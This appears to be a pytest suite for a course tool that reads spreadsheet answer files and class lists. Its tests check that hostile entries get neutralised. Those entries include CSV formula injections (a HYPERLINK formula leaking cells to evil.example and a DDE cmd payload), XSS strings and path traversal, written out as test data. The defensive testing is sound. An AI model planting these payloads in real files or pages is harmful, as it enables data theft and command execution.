"""The course tools and what people type (issue 28): answer files in the dialects spreadsheets write are read;
nothing typed into a class list becomes a formula in a CSV file, markup in a sheet, or a path; bad arguments get
the package's errors.

Every expected value is written by hand: the numbers an answer file holds, the neutralised cell of each payload
(OWASP: a leading ' before a cell that starts with =, +, -, @, tab or carriage return).
"""

from __future__ import annotations

import codecs
import csv
import pathlib
import re

import pytest

from mechanisms.cli import main
from mechanisms.core.errors import InvalidParameterError, MechanismError, UnknownNameError
from mechanisms.course.assign import (Variant, make_variant, make_variants, quantity_values, sheet_html,
                                      sheet_markdown, write_assignment)
from mechanisms.course.grading import GradingError, check_files, read_key
from mechanisms.course.moodle import fill_worksheet, grades_csv
from mechanisms.course.roster import Person, RosterError, read_roster
from mechanisms.present.escape import csv_cell, csv_cell_value, markdown_text

# --- reading the dialects of answer files ------------------------------------------------------------------

KEY = ("student,position,phi_deg,B.s,B.v\n"
       "s01,1,15.0,0.25,-1.5\n"
       "s01,2,30.0,1.5,2.0\n")
"""A key written by hand: s01 at φ = 15° has B.s = 0.25 m, B.v = −1.5 m/s; at 30° B.s = 1.5 m, B.v = 2 m/s."""


@pytest.fixture
def key(tmp_path) -> pathlib.Path:
    path = tmp_path / "key.csv"
    path.write_text(KEY, encoding="utf-8")
    return path


def graded(key: pathlib.Path, data: bytes | str, name: str = "answers.csv"):
    path = key.parent / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    report = check_files(key, [path])
    return {(m.position, m.quantity): m for m in report.marks}, report


@pytest.mark.parametrize("text", [
    'student,position,B.s,B.v\ns01,1,"0,25","-1,5"\n',                   # Google Sheets: quoted decimal commas
    "student\tposition\tB.s\tB.v\ns01\t1\t0,25\t-1.5\n",                  # tab-separated
    "Student,POSITION,b.S,b.v\ns01,1,0.25,-1.5\n",                          # the header in another case
    " student , Position ,B.s,B.v\ns01,1,0.25,-1.5\n",                      # spaces around the column names
    "student,position,B.s,B.v,\ns01,1,0.25,-1.5,\n",                        # Excel's separator at each line's end
    "student,position,B.s,B.v\ns01,1,0.25,\u22121.5\n",                     # the minus sign U+2212
    "\ufeffstudent,position,B.s,B.v\ns01,1,0.25,-1.5\n",                    # UTF-8 with a byte-order mark
    "student,position,B.s,B.v\r\ns01,1,0.25,-1.5\r\n",                      # CRLF
    "student;position;phi_deg;B.s;B.v\ns01;1;15,0;0,25;-1,5\n",             # Excel in a decimal-comma language
    "\n\nstudent,position,B.s,B.v\n\n\ns01,1,0.25,-1.5\n\n",                # blank lines
    'student , position , B.s , B.v\n s01 , 1 , 0.25 ,  "-1,5" \n',          # spaces around values, quoted too
    "student,position,phi_deg,B.s,B.v\ns01,1,15,0.25,\u22121.5\n",
])
def test_dialects_of_answer_files_are_read(key, text):
    marks, report = graded(key, text)
    assert report.problems == []
    # the numbers the file holds, by hand: 0.25 and −1.5 at position 1, both the key's
    assert marks[1, "B.s"].answer == 0.25 and marks[1, "B.v"].answer == -1.5
    assert marks[1, "B.s"].right and marks[1, "B.v"].right
    assert marks[2, "B.s"].status == "missing"


def test_excels_unicode_text_utf16_tabs_crlf(key):
    # Excel's "Unicode text": UTF-16 little-endian with its byte-order mark, tabs, CRLF
    text = "student\tposition\tphi_deg\tB.s\tB.v\r\ns01\t2\t30\t1,5\t2\r\ns01\t1\t15\t0.25\t\u22121.5\r\n"
    marks, report = graded(key, codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    assert report.problems == []
    assert [marks[p, q].answer for p in (1, 2) for q in ("B.s", "B.v")] == [0.25, -1.5, 1.5, 2.0]
    marks, _ = graded(key, codecs.BOM_UTF16_BE + text.encode("utf-16-be"), "big-endian.csv")
    assert marks[2, "B.s"].answer == 1.5


def test_a_thousands_looking_comma_is_read_only_in_a_decimal_comma_file(key):
    # "1,500": 1.5 with a decimal comma, 1500 with a thousands separator
    marks, _ = graded(key, "student;position;B.s\ns01;2;1,500\n")            # ';' file: decimal commas, 1.5
    assert marks[2, "B.s"].answer == 1.5 and marks[2, "B.s"].right
    marks, _ = graded(key, 'student,position,B.s,B.v\ns01,2,"1,500","2,0"\n')   # "2,0" says: decimal commas
    assert marks[2, "B.s"].answer == 1.5 and marks[2, "B.v"].answer == 2.0
    marks, _ = graded(key, 'student,position,B.s,B.v\ns01,2,"1,500",2.0\n')     # a decimal point elsewhere
    assert marks[2, "B.s"].status == "unreadable"
    assert marks[2, "B.s"].note == ("'1,500' is ambiguous: 1.500 with a decimal comma, 1500 with a thousands "
                                    "separator (write it with a decimal point)")


@pytest.mark.parametrize("text, message", [
    # two separators in the first line, and the lines fit either: refused, naming the file and line
    ("\nstudent,position;B.s\ns01,1;0.25\n", "line 2: the column names are separated by ',' and ';', and the lines "
                                            "do not tell which one separates the cells"),
    ("student,position,,B.s\ns01,1,7,0.25\n", "line 2: '7' in column 3, which has no name on line 1"),
    ("student,position,Student\ns01,1,s01\n", "the column(s) student appear more than once"),
    (b"student,position\x00\n", "holds a NUL character at line 1"),
    (b"\xff\xfes\x00\x00\xd8", "not UTF-16 text (byte"),
    (",,,\n , ,\n", "empty (the first line must name the columns)"),
])
def test_what_is_truly_ambiguous_or_broken_is_refused(key, text, message):
    path = key.parent / "bad.csv"
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    with pytest.raises(GradingError) as error:
        check_files(key, [path])
    assert f"answer file {path}" in str(error.value) and message in str(error.value)


def test_two_separators_where_the_lines_decide(tmp_path):
    # a ';' list whose first column's name holds a comma: ';' splits every line alike, ',' does too but gives
    # fewer columns, so ';' it is (and 'Surname, first name' is no column the list knows)
    path = tmp_path / "class.csv"
    path.write_text("Surname, first name;Email;ID\nDoe, Ann;ann@x.org;7\n", encoding="utf-8")
    assert read_roster(path) == [Person("", "ann@x.org", "7")]
    path.write_text("Full name;Email, work;ID\nDoe, Ann;ann@x.org;7\n", encoding="utf-8")
    # ';' again; 'Email, work' is no name the list knows, but its cells are addresses, so it is the e-mail
    assert read_roster(path) == [Person("Doe, Ann", "ann@x.org", "7")]


# --- nothing typed becomes a formula, markup or a path -----------------------------------------------------

PAYLOADS = {   # name, e-mail, identifier of each student of the class list, and the cells expected in a CSV
    "s01": ('=HYPERLINK("http://evil.example/?"&A1,"open")', "a@x.org", "+1+2"),
    "s02": ("@SUM(1+1)", "-2+3@x.org", "=cmd|' /C calc'!A0"),
    "s03": ("<script>alert(1)</script>", "b@x.org", "-2+3"),
    "s04": ("<img src=x onerror=alert(1)>", "c@x.org", "@@"),
    "s05": ("[x](javascript:alert(1)) *bold* `code` |pipe|", "d@x.org", "../../x"),
}
EXPECTED_CELLS = {   # by hand: a leading ' where the text starts with = + - @ (or ' then one of them)
    "s01": ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "a@x.org", "'+1+2"),
    "s02": ("'@SUM(1+1)", "'-2+3@x.org", "'=cmd|' /C calc'!A0"),
    "s03": ("<script>alert(1)</script>", "b@x.org", "'-2+3"),
    "s04": ("<img src=x onerror=alert(1)>", "c@x.org", "'@@"),
    "s05": ("[x](javascript:alert(1)) *bold* `code` |pipe|", "d@x.org", "../../x"),
}


def _csv_rows(path: pathlib.Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:      # a carriage return in a cell kept
        return list(csv.DictReader(handle))


def _no_live_formula(rows: list[dict], numbers: set[str]) -> None:
    """Every cell that starts a formula is a number the package wrote (in a column of ``numbers``)."""
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert column in numbers, (column, cell)
                float(cell)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> pathlib.Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = ["Name,Email,Identifier"]
    for name, email, identifier in PAYLOADS.values():
        lines.append(",".join('"' + v.replace('"', '""') + '"' for v in (name, email, identifier)))
    (folder / "class.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["assign", "crank-slider", "--roster", str(folder / "class.csv"), "--seed", "5", "--out",
                 str(folder / "out")]) == 0
    worksheet = ["Identifier,Full name,Email address,Grade,Maximum grade,Feedback comments"]
    worksheet += [f'"{v[2].replace(chr(34), 2 * chr(34))}",x,{v[1]},,10.00,' for v in PAYLOADS.values()]
    (folder / "worksheet.csv").write_text("\n".join(worksheet) + "\n", encoding="utf-8")
    return folder


def test_the_key_holds_every_payload_neutralised(hostile):
    rows = _csv_rows(hostile / "out" / "key.csv")
    for row in rows:
        assert (row["name"], row["email"], row["identifier"]) == EXPECTED_CELLS[row["student"]]
    quantities = {"B.s", "B.v", "B.a", "coupler.omega", "coupler.alpha"}
    _no_live_formula(rows, quantities)
    assert any(row["B.v"].startswith("-") for row in rows)      # a negative number stays a number, no '
    # read back, the key gives each person as the class list has them
    people = read_key(hostile / "out" / "key.csv").people
    assert {s: (p.name, p.email, p.identifier) for s, p in people.items()} == PAYLOADS


def test_check_writes_grades_marks_and_the_worksheet_neutralised(hostile):
    out = hostile / "out"
    status = main(["check", str(out / "key.csv"), str(out / "key.csv"), "--grades", str(hostile / "grades.csv"),
                   "--marks", str(hostile / "marks.csv"), "--moodle", str(hostile / "worksheet.csv")])
    assert status == 0
    grades = _csv_rows(hostile / "grades.csv")
    for row in grades:
        name, email, identifier = EXPECTED_CELLS[row["student"]]
        assert (row["identifier"], row["name"], row["email"], row["grade"]) == (identifier, name, email, "100.00")
        assert row["feedback"] == "15 of 15 answers right (100 %)."
    _no_live_formula(grades, set())
    _no_live_formula(_csv_rows(hostile / "marks.csv"), {"key", "answer", "difference"})
    filled = _csv_rows(hostile / "worksheet-graded.csv")
    # every student found by identifier (the key gave back the identifiers as typed) and graded
    assert [row["Grade"] for row in filled] == ["10.00"] * 5
    assert {row["Feedback comments"] for row in filled} == {"15 of 15 answers right (100 %)."}


def test_sheets_escape_names_for_their_format(hostile):
    out = hostile / "out"
    html = {s: (out / f"{s}.html").read_text(encoding="utf-8") for s in PAYLOADS}
    markdown = {s: (out / f"{s}.md").read_text(encoding="utf-8") for s in PAYLOADS}
    assert "<script>" not in html["s03"] and "&lt;script&gt;alert(1)&lt;/script&gt;" in html["s03"]
    assert "<img src=x" not in html["s04"] and "&lt;img src=x onerror=alert(1)&gt;" in html["s04"]
    # Markdown: by hand, a backslash before each of \ ` * _ { } [ ] ( ) < > ! | ~ & $ : ^
    assert "Name: \\<script\\>alert\\(1\\)\\</script\\>" in markdown["s03"]
    assert ("Name: \\[x\\]\\(javascript\\:alert\\(1\\)\\) \\*bold\\* \\`code\\` \\|pipe\\|   Identifier: ../../x"
            in markdown["s05"])
    assert "Name: \\<img src=x onerror=alert\\(1\\)\\>" in markdown["s04"]
    for text in markdown.values():          # no < that is not escaped on a name line
        assert not re.search(r"(?<!\\)<", text.split("Name: ")[1].splitlines()[0])
    # the files are named by student ids only: nothing of the class list reaches a path
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["key-tolerances.csv", "key.csv", "variants.json"] + [f"{s}{x}" for s in PAYLOADS for x in (".html", ".md", ".png", "-answers.csv", ".toml")])
    assert not (hostile.parent / "x").exists()


def test_tab_and_carriage_return_payloads(tmp_path):
    # through the API (a class list folds tabs and line breaks into spaces): "\t=1" and "\r=1" get their '
    people = [Person("\t=1", "\r=1", "@x"), Person("Ann", "ann@x.org", "-7")]
    write_assignment("crank-slider", make_variants("crank-slider", 2, seed=3), tmp_path, seed=3, people=people)
    rows = _csv_rows(tmp_path / "key.csv")
    assert (rows[0]["name"], rows[0]["email"], rows[0]["identifier"]) == ("'\t=1", "'\r=1", "'@x")
    assert rows[-1]["identifier"] == "'-7"
    report = check_files(tmp_path / "key.csv", [tmp_path / "key.csv"])
    # read back and written again: the key's whitespace folded ("\t=1" → "=1"), still neutralised
    assert grades_csv(report).splitlines()[1].split(",")[:4] == ["s01", "'@x", "'=1", "'=1"]


def test_the_neutraliser_by_hand():
    assert csv_cell('=HYPERLINK("http://evil.example/?"&A1,"open")') == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    for payload in ("+1+2", "@SUM(1+1)", "-2+3", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1"):
        assert csv_cell(payload) == "'" + payload and csv_cell_value("'" + payload) == payload
    for text in ("Ann", "", "'", "''", "'Tis", "0.5", "s01", " =1"):
        assert csv_cell(text) == text and csv_cell_value(text) == text
    assert csv_cell("'=1") == "''=1" and csv_cell_value("''=1") == "'=1"
    assert markdown_text("a|b\nc") == "a\\|b c" and markdown_text("see www.x.org") == "see www\\.x.org"


def test_sheet_functions_escape_a_person(tmp_path):
    variant = make_variant("crank-slider", 3, 0)
    person = Person("<b>A|B</b>", "", "$x$")
    assert "Name: \\<b\\>A\\|B\\</b\\>   Identifier: \\$x\\$" in sheet_markdown("crank-slider", variant, None, person)
    assert "Name: &lt;b&gt;A|B&lt;/b&gt; &nbsp; Identifier: $x$" in sheet_html("crank-slider", variant, b"", person)


@pytest.mark.parametrize("student", ["../../x", "/etc/passwd", "a\0b", "x" * 65, "CON", "nul", "com1", "s 01", "",
                                     ".hidden", "s01.html", "é", 7])
def test_student_ids_that_cannot_name_a_file_are_refused(student):
    with pytest.raises(InvalidParameterError, match="student must be a student id that can name a file"):
        make_variant("crank-slider", 3, 0, student=student)
    variant = make_variant("crank-slider", 3, 0)
    with pytest.raises(InvalidParameterError, match="student must be"):
        Variant(student, variant.mechanism, variant.omega, variant.positions_deg)   # type: ignore[arg-type]


def test_two_ids_one_file_where_case_is_ignored(tmp_path):
    variants = [make_variant("crank-slider", 3, 0, "s01"), make_variant("crank-slider", 3, 1, "S01")]
    with pytest.raises(InvalidParameterError, match="variants must be variants of different student ids"):
        write_assignment("crank-slider", variants, tmp_path)
    assert list(tmp_path.iterdir()) == []


# --- arguments ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("call, message", [
    (lambda: make_variants("four-bar", 2, seed=-1), "seed must be a whole number ≥ 0: got seed = -1"),
    (lambda: make_variants("four-bar", 2, seed=1.5), "seed must be a whole number ≥ 0: got seed = 1.5"),
    (lambda: make_variants("four-bar", 2, seed=True), "seed must be a whole number ≥ 0"),
    (lambda: make_variants("four-bar", 2, seed="7"), "seed must be a whole number ≥ 0"),
    (lambda: make_variant("four-bar", 1, -1), "index must be a whole number ≥ 0: got index = -1"),
    (lambda: make_variants("four-bar", 0, seed=1), "students must be a whole number from 1 to 9999"),
    (lambda: make_variants("four-bar", -3, seed=1), "students must be a whole number from 1 to 9999"),
    (lambda: make_variants("four-bar", 10**12, seed=1), "got students = 1000000000000"),   # no huge allocation
    (lambda: make_variants("four-bar", 2, seed=1, positions=0), "positions must be a whole number from 1 to 24"),
    (lambda: make_variants("four-bar", 2, seed=1, positions=25), "positions must be a whole number from 1 to 24"),
    (lambda: make_variants("four-bar", 2, seed=1, positions=2.0), "positions must be a whole number from 1 to 24"),
    (lambda: make_variants("no-such", 2, seed=1), "mechanism must be one of"),
])
def test_bad_arguments_name_the_argument(call, message):
    with pytest.raises(InvalidParameterError) as error:
        call()
    assert message in str(error.value)


def test_a_large_seed_reproduces():
    # any whole number ≥ 0 is a seed, and the same one gives the same variant
    assert make_variant("four-bar", 10**30, 2).record() == make_variant("four-bar", 10**30, 2).record()
    assert make_variant("four-bar", 0, 0).record() != make_variant("four-bar", 1, 0).record()


def test_an_unknown_quantity_is_the_packages_error():
    variant = make_variant("crank-slider", 3, 0)
    with pytest.raises(UnknownNameError, match="no quantity named 'B.speed'; known: .*B.v"):
        quantity_values(variant.solve(), "B.speed")


def test_command_line_arguments(tmp_path, capsys):
    assert main(["assign", "four-bar", "--students", "2", "--seed", "-1", "--out", str(tmp_path)]) == 2
    assert "error: seed must be a whole number ≥ 0: got seed = -1" in capsys.readouterr().err
    assert main(["assign", "four-bar", "--students", "0", "--out", str(tmp_path)]) == 2
    assert "students must be a whole number from 1 to 9999" in capsys.readouterr().err
    assert main(["assign", "four-bar", "--students", "2", "--positions", "99", "--out", str(tmp_path)]) == 2
    assert "positions must be a whole number from 1 to 24" in capsys.readouterr().err
    (tmp_path / "file").write_text("x")
    assert main(["assign", "four-bar", "--students", "1", "--seed", "1", "--out", str(tmp_path / "file")]) == 2
    assert f"error: output folder {tmp_path / 'file'}: cannot be made" in capsys.readouterr().err
    key = tmp_path / "key.csv"
    key.write_text(KEY, encoding="utf-8")
    assert main(["check", str(key), str(key), "--relative", "abc"]) == 2          # argparse: a usage error
    assert "--relative" in capsys.readouterr().err
    assert main(["check", str(key), str(key), "--relative", "nan"]) == 2
    assert "--relative must be a percentage" in capsys.readouterr().err
    assert main(["check", str(key), str(key), "--marks", str(tmp_path / "no" / "m.csv")]) == 2
    assert str(tmp_path / "no" / "m.csv") in capsys.readouterr().err


@pytest.mark.parametrize("data, message", [
    (b"", "empty"),
    (b"Name,Email\n", "no students (only the line of column names)"),
    (b"Name,Email\nAnn,a@x.org\nBob,A@x.org\n", "lines 2 and 3: the same email 'A@x.org' twice"),
    (b"Group\nA\n", "no column names a student"),
    ("Name\nJos\u00e9\n".encode("cp1252"), "not UTF-8 text (byte 8)"),
    (b"Name\nAnn\x1b[2J\n", "line 2: a control character (U+001B) in a name, e-mail or identifier"),
    (b"Name\nAnn\x00\n", "holds a NUL character at line 2"),
    (b"Name,Email\n\"Ann\" x,a@x.org\n", "line 2: text after the closing quote of a cell"),
])
def test_bad_class_lists(tmp_path, data, message):
    path = tmp_path / "class.csv"
    path.write_bytes(data)
    with pytest.raises(RosterError) as error:
        read_roster(path)
    assert str(error.value).startswith(f"class list {path}") and message in str(error.value)


def test_class_lists_in_spreadsheet_dialects(tmp_path):
    path = tmp_path / "class.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + "Full name\tEmail\t\r\nAnn Lee\tann@x.org\t\r\n".encode("utf-16-le"))
    assert read_roster(path) == [Person("Ann Lee", "ann@x.org")]
    # the grades CSV that check writes is a class list too: its ' comes off
    path.write_text("student,identifier,name,email,grade,feedback\ns01,'+1+2,'=x,a@x.org,100.00,ok\n", "utf-8")
    assert read_roster(path) == [Person("=x", "a@x.org", "+1+2")]


def test_a_worksheet_in_utf16_is_written_back_in_utf16(tmp_path):
    key = tmp_path / "key.csv"
    key.write_text("student,name,email,identifier,position,phi_deg,B.s\ns01,Ann,ann@x.org,P1,1,15.0,0.25\n", "utf-8")
    text = "Identifier\tFull name\tGrade\tFeedback comments\r\nP1\tAnn\t\t\r\n"
    (tmp_path / "ws.csv").write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    report = check_files(key, [key])
    fill_worksheet(report, tmp_path / "ws.csv", tmp_path / "out.csv")
    # by hand: 1 of 1 right, grade 100.00 of the default maximum 100
    expected = "Identifier\tFull name\tGrade\tFeedback comments\r\nP1\tAnn\t100.00\t1 of 1 answers right (100 %).\r\n"
    assert (tmp_path / "out.csv").read_bytes() == codecs.BOM_UTF16_LE + expected.encode("utf-16-le")


def test_errors_are_the_packages(tmp_path):
    # every refusal above is a MechanismError: the command line reports it with exit status 2
    assert issubclass(GradingError, MechanismError) and issubclass(RosterError, MechanismError)
